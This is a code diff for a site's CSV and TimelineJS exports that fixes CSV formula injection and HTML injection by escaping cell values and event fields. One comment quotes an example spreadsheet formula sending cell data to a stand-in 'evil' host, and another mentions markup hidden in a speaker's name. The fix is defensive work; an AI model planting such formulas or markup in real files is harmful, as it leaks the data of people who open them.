@@ -72,8 +72,15 @@ const CSV_COLUMNS = [
   'event_url',
 ];
 
+/**
+ * One CSV cell. A cell that begins with = + - @, a tab or a carriage return
+ * is a formula to a spreadsheet (`=HYPERLINK("https://evil/?"&A2,"…")` in a
+ * headline would run when the file is opened), so it gets a leading `'`, as
+ * OWASP advises (CSV injection); the text is otherwise as written.
+ */
 function csvCell(value: string): string {
-  return /[",\n\r]/u.test(value) ? `"${value.replace(/"/gu, '""')}"` : value;
+  const safe = /^[=+\-@\t\r]/u.test(value) ? `'${value}` : value;
+  return /[",\n\r]/u.test(safe) ? `"${safe.replace(/"/gu, '""')}"` : safe;
 }
 
 /** `/timeline.csv` in parts: UTF-8 with a byte-order mark (so Excel reads the Arabic), the header, then one row per statement, CRLF lines. */
@@ -116,18 +123,23 @@ export function timelineJsParts(statements: readonly Statement[], sources: Reado
   return prettyJsonWithList({ title }, 'events', statements, (s) => timelineJsEvent(s, sources.get(s.article), site));
 }
 
-/** One statement as a TimelineJS3 event. */
+/**
+ * One statement as a TimelineJS3 event. TimelineJS sets the headline, the
+ * text, the display date and the group label as HTML (`innerHTML`), so every
+ * one of them is escaped: a speaker's name can hold markup («جون<img …>سميث»
+ * reads as a name to the extractor).
+ */
 function timelineJsEvent(s: Statement, src: Source | undefined, site: URL) {
   const [year, month, day] = s.date.split('-').map(Number);
   const side = SIDES[s.speaker.side ?? 'other'];
   return {
     unique_id: s.id,
-    start_date: { year, month, day, display_date: formatArabicDate(s.date) },
+    start_date: { year, month, day, display_date: escapeHtml(formatArabicDate(s.date)) },
     text: {
-      headline: s.speaker.name,
-      text: `<p>${escapeHtml(mainWords(s))}</p><p><a href="${new URL(eventPath(s.id), site).href}">${escapeHtml(src?.outlet ?? '')}</a></p>`,
+      headline: escapeHtml(s.speaker.name),
+      text: `<p>${escapeHtml(mainWords(s))}</p><p><a href="${escapeHtml(new URL(eventPath(s.id), site).href)}">${escapeHtml(src?.outlet ?? '')}</a></p>`,
     },
-    group: side.ar,
+    group: escapeHtml(side.ar),
   };
 }
 
